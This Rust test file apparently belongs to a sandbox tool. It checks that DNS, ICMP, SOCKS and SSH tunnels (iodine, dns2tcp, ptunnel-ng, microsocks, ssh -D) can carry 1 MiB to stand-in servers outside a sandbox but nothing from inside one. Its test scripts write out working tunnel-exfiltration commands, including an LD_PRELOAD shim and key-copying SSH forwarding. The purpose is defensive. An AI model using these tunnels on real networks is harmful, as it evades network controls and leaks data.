//! Programs that carry bytes over DNS, ICMP, SOCKS and SSH carry none out of a sandbox. Without a sandbox, the same programs
//! carry 1 MiB to the same servers.
//!
//! Clients and servers have a network namespace each, and a link between them. What passes over it is counted.

use std::fmt::Write as _;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use hutch_testkit::wait::until;
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};

use crate::egress::{Caller, Site, callers};
use crate::harness::{succeeded, text};
use crate::peers::{Peer, SSH_OPTIONS, sshd, tunnel_programs, with_files};

/// Address of the servers. Ports 53 and 443 are those of tunnels.
const SERVER: &str = "203.0.113.1";
/// Address of the server of SOCKS.
const SOCKS: &str = "203.0.113.3";
/// Address of the client.
const CLIENT: &str = "203.0.113.2";
/// Domain of the servers of DNS.
const DOMAIN: &str = "t.example";
/// Bytes that a control carries.
const BYTES: usize = 1 << 20;
/// Where the servers of tunnels connect to, in their namespace.
const SINK: (&str, u16) = ("127.0.0.1", 9000);

/// A network namespace.
pub(crate) struct Namespace(Peer);

impl Namespace {
    pub(crate) fn new(log: &Path) -> Namespace {
        let mut unshare = Command::new("unshare");
        unshare.args(["--net", "sh", "-c", "ip link set lo up && echo made && exec sleep 1000"]);
        let mut peer = Peer::start(unshare, log);
        peer.printed_until("made");
        Namespace(peer)
    }

    /// The command in this namespace.
    pub(crate) fn command(&self, command: &Command) -> Command {
        let mut nsenter = Command::new("nsenter");
        nsenter.arg(format!("--net=/proc/{}/ns/net", self.0.id()));
        nsenter.arg(command.get_program()).args(command.get_args());
        for (name, value) in command.get_envs() {
            match value {
                Some(value) => nsenter.env(name, value),
                None => nsenter.env_remove(name),
            };
        }
        nsenter.stdin(Stdio::null());
        nsenter
    }

    #[track_caller]
    pub(crate) fn run(&self, words: &str) -> String {
        let mut command = Command::new("sh");
        command.args(["-euc", words]);
        succeeded(words, &self.command(&command).output().expect("nsenter"))
    }

    /// Waits until a program listens on this port, without connecting to it.
    fn listens(&self, port: u16) {
        let path = format!("/proc/{}/net/tcp", self.0.id());
        let listener = |line: &str| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            fields[1].ends_with(&format!(":{port:04X}")) && fields[3] == "0A"
        };
        until("a listener", || {
            std::fs::read_to_string(&path).expect("sockets").lines().skip(1).any(listener)
        });
    }

    /// Runs this in a thread in the namespace.
    pub(crate) fn inside<T: Send>(&self, work: impl FnOnce() -> T + Send) -> T {
        let file = std::fs::File::open(format!("/proc/{}/ns/net", self.0.id())).expect("a namespace");
        let entered = || {
            move_into_link_name_space(file.as_fd(), Some(LinkNameSpaceType::Network)).expect("entered");
            work()
        };
        std::thread::scope(|scope| scope.spawn(entered).join().expect("a thread"))
    }
}

/// Two namespaces with a link, and the servers in one of them.
struct Network {
    site: Site,
    client: Namespace,
    server: Namespace,
    /// `env` with what the programs need.
    environment: Vec<String>,
    servers: Vec<Peer>,
}

impl Network {
    fn new() -> Network {
        let site = Site::new();
        let path = |name: &str| site.folder.path().join(name);
        let (client, server) = (Namespace::new(&path("client.log")), Namespace::new(&path("server.log")));
        client.run(&format!("ip link add wire type veth peer name wire netns {}", server.0.id()));
        for (namespace, addresses) in [(&client, &[CLIENT][..]), (&server, &[SERVER, SOCKS])] {
            // IPv6 would send packets by itself.
            namespace.run("sysctl -qw net.ipv6.conf.all.disable_ipv6=1 && ip link set wire up");
            for address in addresses {
                namespace.run(&format!("ip address add {address}/24 dev wire"));
            }
        }
        let hosts = format!("127.0.0.1 localhost\n{SERVER} web.example\n{SOCKS} socks.example\n");
        std::fs::write(path("hosts"), hosts).expect("written");
        std::fs::write(path("resolv.conf"), format!("nameserver {SERVER}\n")).expect("written");
        let environment = tunnel_programs(&path("tools"));
        let shim = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/hutch/fixtures/packets.c");
        let mut compiler = Command::new("cc");
        compiler.args(["-shared", "-fPIC", "-o"]).arg(path("tools/packets.so")).arg(shim);
        succeeded("cc", &compiler.output().expect("cc"));
        server.inside(sink);
        Network { site, client, server, environment, servers: Vec::new() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.site.folder.path().join(name)
    }

    /// A program of tunnels.
    fn program(&self, words: &[&str]) -> Command {
        let mut command = Command::new(&self.environment[0]);
        command.args(&self.environment[1..]).args(words);
        command
    }

    /// Starts a program in a namespace, until this is dropped.
    fn start(&self, namespace: &Namespace, name: &str, command: &Command) -> Peer {
        Peer::start(namespace.command(command), &self.path(&format!("{name}.log")))
    }

    fn serve(&mut self, name: &str, ready: &str, command: &Command) {
        let mut server = self.start(&self.server, name, command);
        server.printed_until(ready);
        self.servers.push(server);
    }

    /// Sends 1 MiB from the namespace of the client through a tunnel that has its entry there. Returns what the sink got.
    fn carry(&self, options: &str, url: &str) -> String {
        let file = self.path("data");
        std::fs::write(&file, vec![7; BYTES]).expect("written");
        self.client
            .run(&format!("curl -s -m 120 {options} -H Expect: --data-binary @{} {url}", file.display()))
    }

    /// Runs a script in a sandbox of the client's namespace, for which the names of the servers are allowed.
    fn attempt(&self, caller: Caller, more: &[&str], script: &str) -> String {
        let tools = format!("{}:ro", self.path("tools").display());
        let options = ["--mount", &tools, "--allow", "web.example", "--allow", "socks.example", "--allow"];
        let domain = format!("**.{DOMAIN}");
        let options = [&options[..], &[&domain, "--allow-private", "203.0.113.0/24"], more].concat();
        let mut words: Vec<&str> = self.environment.iter().map(String::as_str).collect();
        words.extend(["sh", "-c", script]);
        let command = self.site.command(caller, &options, &words);
        let resolver = self.path("resolv.conf");
        let mut outer = with_files(&[(&resolver, "/etc/resolv.conf")], None);
        outer.arg(command.get_program()).args(command.get_args());
        outer.env("HOME", self.path("home")).env_remove("XDG_CACHE_HOME");
        let output = self.client.command(&outer).output().expect("nsenter");
        text(&output.stdout) + &text(&output.stderr)
    }

    /// IP packets that have arrived in the servers' namespace, once those of earlier connections are there.
    fn packets(&self) -> u64 {
        let count = || {
            let path = format!("/proc/{}/net/snmp", self.server.0.id());
            let counters = std::fs::read_to_string(path).expect("counters");
            let values = counters.lines().filter(|line| line.starts_with("Ip:")).nth(1).expect("values");
            values.split(' ').nth(3).and_then(|value| value.parse().ok()).expect("InReceives")
        };
        let mut before: u64 = count();
        loop {
            std::thread::sleep(Duration::from_millis(300));
            let now = count();
            if now == before {
                return now;
            }
            before = now;
        }
    }

    /// Checks that these attempts, each with a part of what it prints, send no packet to the servers.
    fn carries_nothing(&self, attempts: &[(&str, &str)]) {
        let before = self.packets();
        let callers = callers();
        std::thread::scope(|scope| {
            let each =
                callers.iter().flat_map(|caller| attempts.iter().map(move |attempt| (*caller, attempt)));
            let running: Vec<_> = each
                .map(|(caller, attempt)| {
                    (caller, attempt, scope.spawn(move || self.attempt(caller, &[], attempt.0)))
                })
                .collect();
            for (caller, (script, reason), printed) in running {
                let printed = printed.join().expect("a thread");
                assert!(printed.contains(reason), "{caller:?}: {script}: {printed}");
                assert!(!printed.contains(&BYTES.to_string()), "{caller:?}: {script}: {printed}");
            }
        });
        assert_eq!(self.packets(), before);
    }
}

/// Serves HTTP: the answer is the number of bytes in the request.
fn sink() {
    let listener = TcpListener::bind(("0.0.0.0", SINK.1)).expect("bind");
    std::thread::spawn(move || {
        for client in listener.incoming().flatten() {
            std::thread::spawn(move || count(client));
        }
    });
}

fn count(mut client: TcpStream) -> std::io::Result<()> {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") {
        client.read_exact(&mut byte)?;
        head.push(byte[0]);
    }
    let head = text(&head).to_ascii_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
    let length = length.and_then(|length| length.parse().ok()).unwrap_or(0);
    let mut body = vec![0; length];
    client.read_exact(&mut body)?;
    let text = length.to_string();
    write!(client, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{text}", text.len())
}

#[test]
fn iodine_carries_packets_over_dns_but_not_out_of_a_sandbox() {
    hutch_testkit::require!(root, user_namespaces, curl, compiler, tunnels);
    let mut network = Network::new();
    let words = ["iodined", "-f", "-c", "-P", "secret", "10.10.0.1/24", DOMAIN];
    network.serve("iodined", "Listening to dns", &network.program(&words));
    // The device of the client's own machine.
    let words = ["iodine", "-f", "-r", "-P", "secret", SERVER, DOMAIN];
    let mut client = network.start(&network.client, "iodine", &network.program(&words));
    client.printed_until("Connection setup complete");
    assert_eq!(network.carry("", "http://10.10.0.1:9000/"), BYTES.to_string());
    drop(client);
    // A socket pair in its place, which a sandbox can have too: one packet waits to be sent.
    let received = || {
        let path = format!("/proc/{}/net/dev", network.server.0.id());
        let counters = std::fs::read_to_string(path).expect("counters");
        let line = counters.lines().find(|line| line.trim_start().starts_with("dns0:")).expect("a device");
        line.split_whitespace().nth(1).expect("a counter").parse::<usize>().expect("a number")
    };
    let before = received();
    let preload = format!("LD_PRELOAD={}", network.path("tools/packets.so").display());
    let client = network.start(
        &network.client,
        "preloaded",
        &network.program(&[&["env", &preload], &words[..]].concat()),
    );
    until("the packet arrives", || received() == before + 1020);
    drop(client);
    let device = format!("timeout 20 iodine -f -r -P secret {SERVER} {DOMAIN}");
    let preloaded =
        |server: &str| format!("{preload} timeout 30 iodine -f -r -P secret {server} {DOMAIN}; echo end");
    network.carries_nothing(&[
        (&device, "open_tun: /dev/net/tun"),
        (&preloaded(""), "No suitable DNS query type found"),
        (&preloaded(SERVER), "No suitable DNS query type found"),
    ]);
}

#[test]
fn dns2tcp_carries_bytes_over_dns_but_not_out_of_a_sandbox() {
    hutch_testkit::require!(root, user_namespaces, curl, compiler, tunnels);
    let mut network = Network::new();
    let mut settings =
        format!("listen = {SERVER}\nport = 53\nuser = root\nchroot = /tmp\ndomain = {DOMAIN}\n");
    let _ = writeln!(settings, "resources = sink:{}:{}", SINK.0, SINK.1);
    std::fs::write(network.path("dns2tcpd.conf"), settings).expect("written");
    let file = network.path("dns2tcpd.conf").display().to_string();
    network.serve(
        "dns2tcpd",
        "Starting Server",
        &network.program(&["dns2tcpd", "-F", "-d", "1", "-f", &file]),
    );
    let words = ["dns2tcpc", "-z", DOMAIN, "-r", "sink", "-l", "8000", SERVER];
    let mut client = network.start(&network.client, "dns2tcpc", &network.program(&words));
    client.printed_until("Listening on port");
    assert_eq!(network.carry("", "http://127.0.0.1:8000/"), BYTES.to_string());
    drop(client);
    let through = |server: &str| {
        format!(
            "timeout 20 dns2tcpc -z {DOMAIN} -r sink -l 8000 {server} & sleep 1; \
            curl -s -m 2 --data byte http://127.0.0.1:8000/; echo end"
        )
    };
    network.carries_nothing(&[(&through(""), "Name error"), (&through(SERVER), "Name error")]);
}

#[test]
fn ptunnel_carries_bytes_over_icmp_but_not_out_of_a_sandbox() {
    hutch_testkit::require!(root, user_namespaces, curl, compiler, tunnels);
    let network = Network::new();
    // Else the kernel answers before the program.
    network.server.run("sysctl -qw net.ipv4.icmp_echo_ignore_all=1");
    let server = format!("-p{SERVER}");
    for mode in ["--magic=deadc0de", "--udp"] {
        let words = ["ptunnel-ng", "-r127.0.0.1", "-R9000", "-a10", mode];
        let serves = network.start(&network.server, "ptunnel-server", &network.program(&words));
        let words = ["ptunnel-ng", &server, "-l8000", "-r127.0.0.1", "-R9000", "-a10", mode];
        let client = network.start(&network.client, "ptunnel", &network.program(&words));
        network.client.listens(8000);
        assert_eq!(network.carry("", "http://127.0.0.1:8000/"), BYTES.to_string());
        drop(client);
        // Without buffers, since it ends by a signal. curl is refused until the program listens.
        let through = |options: &str| {
            format!(
                "timeout 60 stdbuf -o0 ptunnel-ng {options} {server} -l8000 -r127.0.0.1 -R9000 {mode} 2>&1 & \
                for try in $(seq 100); do curl -s -m 2 --data byte http://127.0.0.1:8000/; [ $? = 7 ] || break; \
                sleep 0.2; done; echo end"
            )
        };
        let unprivileged = through("--unprivileged");
        if mode == "--udp" {
            let sends = "Ping proxy is listening in";
            network.carries_nothing(&[(&through(""), sends), (&unprivileged, sends)]);
        } else {
            let (raw, started) =
                ("Couldn't create privileged raw socket", "No running proxy thread - starting it");
            network.carries_nothing(&[(&through(""), raw), (&unprivileged, started)]);
            // gVisor has such sockets, and drops what they send.
            for caller in [Caller::Root, Caller::Ordinary] {
                let printed = network.attempt(caller, &[], &unprivileged);
                let refused =
                    printed.contains("Couldn't create unprivileged datagram socket: Permission denied");
                assert!(refused, "{caller:?}: {printed}");
            }
        }
        drop(serves);
    }
}

#[test]
fn socks_and_ssh_carry_bytes_but_not_out_of_a_sandbox() {
    hutch_testkit::require!(root, user_namespaces, curl, compiler, tunnels);
    let mut network = Network::new();
    // Low ports are open to every user in this namespace.
    network.server.run("sysctl -qw net.ipv4.ip_unprivileged_port_start=0");
    let (command, key) = sshd(network.site.folder.path(), SERVER, &[443, 22]);
    network.serve("sshd", "Server listening", &command);
    for (name, port) in [("socks", "443"), ("socks-other", "1080")] {
        network.serve(name, "", &network.program(&["microsocks", "-i", SOCKS, "-p", port]));
    }
    network.server.listens(443);
    network.server.listens(1080);
    let sink = "http://127.0.0.1:9000/";
    let carried = network.carry(&format!("--socks5-hostname {SOCKS}:443"), sink);
    assert_eq!(carried, BYTES.to_string());
    let ssh = |port: u16, host: &str| {
        format!("ssh -N -D 1080 -i {key} -p {port} {} -o ExitOnForwardFailure=yes user@{host}", SSH_OPTIONS)
    };
    let control = ssh(443, SERVER);
    let client =
        network.start(&network.client, "ssh", &network.program(&["sh", "-c", &format!("exec {control}")]));
    network.client.listens(1080);
    assert_eq!(network.carry("--socks5-hostname 127.0.0.1:1080", sink), BYTES.to_string());
    drop(client);
    let socks =
        |server: &str| format!("curl -sS -m 20 --data byte --socks5-hostname {server} {sink}; echo end");
    let through_ssh = |port, host| {
        let ssh = ssh(port, host);
        format!("cp {key} /tmp/key; chmod 600 /tmp/key; {}; echo end", ssh.replace(&key, "/tmp/key"))
    };
    // On port 443 of an allowed name the proxy expects TLS; other ports and addresses are closed.
    network.carries_nothing(&[
        (&socks("socks.example:443"), "hutch: refused socks.example:443: it is neither TLS nor HTTP"),
        (&socks("socks.example:1080"), "hutch: refused socks.example:1080"),
        (&socks(&format!("{SOCKS}:443")), "hutch: refused 203.0.113.3:443"),
        (&through_ssh(443, "web.example"), "hutch: refused web.example:443: it is neither TLS nor HTTP"),
        (&through_ssh(22, SERVER), "hutch: refused 203.0.113.1:22"),
    ]);
    // Nothing but the rules was in the way.
    let script = socks("socks.example:1080");
    let printed = network.attempt(Caller::Ordinary, &["--allow", "socks.example:1080"], &script);
    assert!(printed.starts_with("4end"), "{printed}");
}
